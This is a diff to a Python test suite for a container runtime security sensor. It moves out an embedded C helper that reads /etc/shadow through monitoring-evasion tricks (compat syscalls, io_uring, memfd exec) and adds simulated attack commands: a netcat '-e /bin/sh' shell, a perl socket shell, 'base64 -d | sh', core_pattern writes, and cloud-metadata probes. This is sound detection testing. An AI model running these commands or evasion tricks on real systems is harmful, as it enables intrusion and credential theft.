@@ -12,86 +12,9 @@ import tempfile
 import time
 import unittest
 
-from support import IMAGE, PLIMSOLL, SHARED, Agent, Docker, as_login, main, need, run
+from support import IMAGE, PLIMSOLL, ROOT, SHARED, Agent, Docker, as_login, main, need, run
 
 FALCO = SHARED / "data" / "falco-rules"
-TRICKS = r"""
-#define _GNU_SOURCE
-#include <fcntl.h>
-#include <linux/io_uring.h>
-#include <linux/openat2.h>
-#include <pthread.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <sys/mman.h>
-#include <sys/prctl.h>
-#include <sys/syscall.h>
-#include <sys/wait.h>
-#include <unistd.h>
-extern char **environ;
-static int by_compat(const char *path) {  /* int $0x80 takes the addresses of the lowest 4 GiB */
-    char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
-    strcpy(low, path);
-    long result;
-    __asm__ volatile("int $0x80" : "=a"(result) : "a"(5), "b"((int)(long)low), "c"(O_RDONLY), "d"(0) : "memory");
-    return (int)result;
-}
-static int by_uring(const char *path) {
-    struct io_uring_params p = {0};
-    int ring = syscall(SYS_io_uring_setup, 4, &p);
-    if (ring < 0) return -1;
-    char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
-    struct io_uring_sqe *e = mmap(0, p.sq_entries * sizeof *e, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
-    memset(e, 0, sizeof *e);
-    e->opcode = IORING_OP_OPENAT; e->fd = AT_FDCWD; e->addr = (unsigned long)path; e->open_flags = O_RDONLY;
-    *(unsigned *)(sq + p.sq_off.array) = 0;
-    __atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
-    return syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
-}
-static void *by_thread(void *path) { return (void *)(long)open(path, O_RDONLY); }
-static void *by_user(void *path) {
-    int f = open(path, O_RDONLY | O_PATH);
-    syscall(SYS_setresuid, 1000, 1000, 1000);  /* this thread alone */
-    return (void *)(long)(f < 0 ? f : open(path, O_RDONLY));
-}
-int main(int n, char **a) {
-    const char *path = a[2];
-    int f = -1;
-    if (!strcmp(a[1], "openat2")) { struct open_how how = {.flags = O_RDONLY}; f = syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how); }
-    if (!strcmp(a[1], "compat")) f = by_compat(path);
-    if (!strcmp(a[1], "uring")) f = by_uring(path);
-    if (!strcmp(a[1], "thread")) { pthread_t t; void *r; pthread_create(&t, 0, by_thread, (void *)path); pthread_join(t, &r); f = (int)(long)r; }
-    if (!strcmp(a[1], "setuid")) { pthread_t t; void *r; pthread_create(&t, 0, by_user, (void *)path); pthread_join(t, &r); f = (int)(long)r; }
-    if (!strcmp(a[1], "deleted")) {
-        char *argv[] = {"cat", (char *)path, 0};
-        int m = open("/tmp/gone", O_RDONLY);
-        unlink("/tmp/gone");
-        execveat(m, "", argv, environ, AT_EMPTY_PATH);
-    }
-    if (!strcmp(a[1], "many")) {  /* so many files, and one that says so, once there is one that asks for them */
-        char name[64];
-        if (chdir(path)) return 1;
-        while (access("go", F_OK)) usleep(10000);
-        for (int i = 0; i < atoi(a[3]); i++) { snprintf(name, sizeof name, "%d", i); close(open(name, O_CREAT | O_WRONLY, 0600)); }
-        close(open("end", O_CREAT | O_WRONLY, 0600));
-        pause();
-    }
-    if (!strcmp(a[1], "orphan")) {
-        if (fork() == 0) { if (fork() == 0) { setsid(); while (getppid() != 1) usleep(1000); prctl(PR_SET_NAME, "kworker/0:1"); _exit(open(path, O_RDONLY) < 0); } _exit(0); }
-        wait(0);
-        f = 0;
-    }
-    if (!strcmp(a[1], "memfd")) {
-        int m = memfd_create("trick", 0), in = open("/bin/busybox", O_RDONLY); char b[65536]; long k;
-        while ((k = read(in, b, sizeof b)) > 0) if (write(m, b, k) != k) return 1;
-        char *argv[] = {"cat", (char *)path, 0};
-        execveat(m, "", argv, environ, AT_EMPTY_PATH);
-    }
-    printf("%d\n", f);
-    return f < 0;
-}
-"""
 
 
 @need("docker", "dockerd", "busybox", "cc")
@@ -104,15 +27,15 @@ class Sensor(unittest.TestCase):
         cls.folder = pathlib.Path(tempfile.mkdtemp(prefix="plimsoll-sensor-"))
         cls.addClassCleanup(shutil.rmtree, cls.folder, ignore_errors=True)
         (cls.folder / "tools").mkdir()
-        (cls.folder / "tricks.c").write_text(TRICKS)
-        run("cc", "-O1", "-static", "-pthread", "-o", cls.folder / "tools" / "tricks", cls.folder / "tricks.c")
+        run("cc", "-O1", "-static", "-pthread", "-o", cls.folder / "tools" / "tricks", pathlib.Path(__file__).parent / "tricks.c")
         rules = [str(file) for file in sorted(FALCO.glob("*.yaml"))] if FALCO.is_dir() else []
         own = cls.folder / "own.yaml"
         own.write_text("- rule: shadow read\n  desc: test\n  condition: evt.type in (open, openat, openat2) and fd.name = /etc/shadow\n"
                        "  output: shadow (%proc.cmdline)\n  priority: WARNING\n")
         cls.agent = Agent(cls.folder, "agent", [cls.docker.host], "off", sensor=True, rules=[*rules, str(own)])
         cls.addClassCleanup(cls.agent.stop)
-        cls.docker.docker("run", "-d", "--name", "box", "-v", f"{cls.folder}/tools:/tools:ro", "--security-opt", "seccomp=unconfined", IMAGE, "sleep", "3600")
+        cls.docker.docker("run", "-d", "--name", "box", "-v", f"{cls.folder}/tools:/tools:ro", "--security-opt", "seccomp=unconfined", "--tmpfs", "/run/lock:exec",
+                          IMAGE, "sleep", "3600")
         cls.docker.docker("exec", "box", "sh", "-c", "echo root:x:1: > /etc/shadow; ln -s /etc/shadow /tmp/link")
 
     def inside(self, *command, check=True):
@@ -155,11 +78,14 @@ class Sensor(unittest.TestCase):
             with self.subTest(road):
                 before = len(self.agent.search("record.kind = alert and alert.rule = 'shadow read'"))
                 done = self.inside(*command, check=False)
-                if road not in ("compat", "uring", "memfd"):  # which a kernel may refuse
-                    self.assertEqual(done.returncode, 0, done.stderr)
-                if done.returncode != 0 or (road == "uring" and "io_uring are not seen" in blind):
-                    continue
+                if road in ("compat", "uring") and done.stdout.strip() in (b"-1", b"-38"):
+                    self.skipTest("this kernel refuses that: EPERM or ENOSYS")
+                self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
+                if road == "uring" and "io_uring are not seen" in blind:
+                    self.skipTest("this kernel does not tell of io_uring, and that is said")
                 self.agent.wait_for("record.kind = alert and alert.rule = 'shadow read'", before + 1, seconds=20)
+                if road == "setuid":  # one thread's, which alone is another user
+                    self.agent.wait_for("record.kind = alert and alert.rule = 'shadow read' and user.uid = 1000")
 
     @unittest.skipUnless(FALCO.is_dir(), "Falco's rule files are not here")
     def test_falcos_rules_fire(self):
@@ -171,7 +97,7 @@ class Sensor(unittest.TestCase):
     def test_the_packs_rules_hold_for_what_really_happens(self):
         """Their examples are fields that somebody wrote down; these are acts."""
         self.docker.docker("run", "-d", "--name", "big", "-v", f"{self.folder}/tools:/tools:ro", "--security-opt", "seccomp=unconfined",
-                           "--security-opt", "apparmor=unconfined", "--cap-add", "SYS_ADMIN", "--pid", "host", IMAGE, "sleep", "3600")
+                           "--security-opt", "apparmor=unconfined", "--cap-add", "SYS_ADMIN", "--cap-add", "NET_ADMIN", "--pid", "host", IMAGE, "sleep", "3600")
         shutil.copy("/lib64/ld-linux-x86-64.so.2", self.folder / "tools")
         victim = subprocess.Popen(["sleep", "600"])
         self.addCleanup(victim.wait)
@@ -200,6 +126,23 @@ class Sensor(unittest.TestCase):
             "Program made to run as its owner": "cp /bin/busybox /tmp/suid; chmod 4755 /tmp/suid",
             "Crypto miner started": "cp /bin/busybox /tmp/xmrig; /tmp/xmrig --donate-level 1",
             "Tool of attackers started in a container": "cp /bin/busybox /tmp/nmap; /tmp/nmap -sS 10.0.0.1",
+            "Server program started a shell": "cp /tools/tricks /tmp/lighttpd; /tmp/lighttpd run /bin/sh",
+            "Compiler used by a service or by hand": "cp /tools/tricks /tmp/gcc; cp /tools/tricks /tmp/httpd; /tmp/httpd run /tmp/gcc",
+            "Connection put in place of a shell's input or output": "cp /tools/tricks /tmp/python3; /tmp/python3 reverse",
+            "Connection and command in one line of a script": "cp /tools/tricks /tmp/perl; /tmp/perl -e 'use Socket; exec \"/bin/sh -i\"'",
+            "Shell bound to a network address": "nc 127.0.0.1 9 -e /bin/sh",
+            "Decoded or downloaded text run by a shell": "echo dHJ1ZQo= | base64 -d | sh",
+            "Program run from shared memory": "cp /bin/busybox /run/lock/true; /run/lock/true",
+            "Package manager in a running container": "cp /tools/tricks /tmp/apk; /tmp/apk add curl",
+            "Setting of the host's kernel written from a container": "echo x > /proc/sys/kernel/core_pattern",
+            "Engine's socket connected to from a container": "/tools/tricks unix /tmp/docker.sock",
+            "Disk or memory of the host opened in a container": "echo x > /dev/sdb; cat /dev/sdb",
+            "Runtime's program overwritten from a container": "echo x > /tmp/crun",
+            "File opened by its number": "/tools/tricks handle",
+            "Kernel module loaded or removed from a container": "/tools/tricks module",
+            "Page faults taken over in a container": "/tools/tricks faults",
+            "Another process taken over": "/tools/tricks take",
+            "Raw network socket in a container": "/tools/tricks raw",
         }
         for rule, act in acts.items():
             self.inside("sh", "-c", act, check=False)
@@ -208,12 +151,33 @@ class Sensor(unittest.TestCase):
         self.docker.docker("exec", "big", "sh", "-c", f"nsenter -t {victim.pid} -n /bin/true", check=False)
         self.docker.docker("exec", "big", "sh", "-c", f"kill {victim.pid}")
         self.assertEqual(victim.wait(10), -15)
+        self.docker.docker("exec", "big", "/tools/tricks", "program")
+        self.docker.docker("exec", "big", "sh", "-c", "for a in 203.0.113.9 169.254.169.254; do /bin/busybox ip address add $a/32 dev lo; done")
+        for port in (443, 3333, 22, 25, 2375):
+            self.connected_to("203.0.113.9", port)
+        self.connected_to("169.254.169.254", 80)
         expected = {*acts, "Shell with a terminal in a container", "Mount in a container", "Other namespaces entered from a container",
-                    "Signal sent out of a container"}
+                    "Signal sent out of a container", "Kernel program loaded from a container", "Unexpected outbound connection", "Connection to a mining pool",
+                    "SSH connection by a program that is no SSH program", "Mail sent to other servers from a container",
+                    "Engine's open TCP port reached from a container", "Cloud metadata asked with a tool"}
+        shipped = set()
+        for file in (ROOT / "rules" / "runtime").glob("container-*.yaml"):
+            for rule in file.read_text().split("\n- rule: ")[1:]:
+                shipped |= {rule.split("\n")[0]} if "\n  enabled: false" not in rule else set()
+        self.assertEqual(shipped - expected, set(), "each rule of the pack is tried by an act")
         deadline = time.monotonic() + 60
         while missing := expected - {alert["alert.rule"] for alert in self.agent.search("record.kind = alert and container.name in (box, big)")}:
             self.assertLess(time.monotonic(), deadline, missing)
             time.sleep(0.5)
+
+    def connected_to(self, address, port):
+        """netcat reaches an address that looks like one outside, and is big's own."""
+        self.docker.docker("exec", "-d", "big", "/bin/busybox", "nc", "-l", "-p", str(port))
+        for _ in range(50):
+            if self.docker.docker("exec", "big", "sh", "-c", f"echo | nc -w 2 {address} {port}", check=False).returncode == 0:
+                return
+            time.sleep(0.1)
+        self.fail(f"{address}:{port} was not reached")
 
     def test_the_person_behind_an_exec_is_proved(self):
         with tempfile.TemporaryDirectory() as home:
@@ -328,20 +292,26 @@ class Hindered(unittest.TestCase):
         cls.docker = Docker()
         cls.addClassCleanup(cls.docker.stop)
 
-    def hindered(self, within, why):
+    def hindered(self, within, why, audit="off"):
         with tempfile.TemporaryDirectory(prefix="plimsoll-sensor-") as folder:
-            agent = Agent(pathlib.Path(folder), "poor", [self.docker.host], "off", sensor=True, within=within, wait=False)
+            agent = Agent(pathlib.Path(folder), "poor", [self.docker.host], audit, sensor=True, within=within, wait=False)
             try:
                 agent.wait(lambda sources: any(s["name"] == "kernel" and s["fault"] for s in sources), "the sensor says why not")
                 self.assertRegex(next(s["fault"] for s in agent.sources() if s["name"] == "kernel"), why)
                 agent.wait(lambda sources: any(s["name"].startswith("engine") and s["connected"] for s in sources), "the engine is recorded all the same")
+                self.assertIn("is recorded without it", next(s["fault"] for s in agent.sources() if s["name"] == "kernel"))
+                return {source["name"].split()[0] for source in agent.sources()}
             finally:
                 agent.stop()
 
     def test_without_rights(self):
         for lacking, named in (("-bpf,-perfmon,-sys_admin", "CAP_BPF and CAP_PERFMON.*both"), ("-perfmon,-sys_admin", "lacks CAP_PERFMON")):
             with self.subTest(lacking):
-                self.hindered(["setpriv", "--bounding-set", lacking, "--inh-caps", lacking], named)
+                self.assertNotIn("audit", self.hindered(["setpriv", "--bounding-set", lacking, "--inh-caps", lacking], named))
+
+    def test_linux_audit_stands_in(self):
+        lacking = "-bpf,-perfmon,-sys_admin"
+        self.assertIn("audit", self.hindered(["setpriv", "--bounding-set", lacking, "--inh-caps", lacking], "CAP_BPF", "auto"))
 
     def test_on_a_kernel_that_does_not_describe_its_types(self):
         self.hindered(["unshare", "--mount", "sh", "-c", 'mount -t tmpfs none /sys/kernel/btf && exec "$@"', "sh"], "BTF")
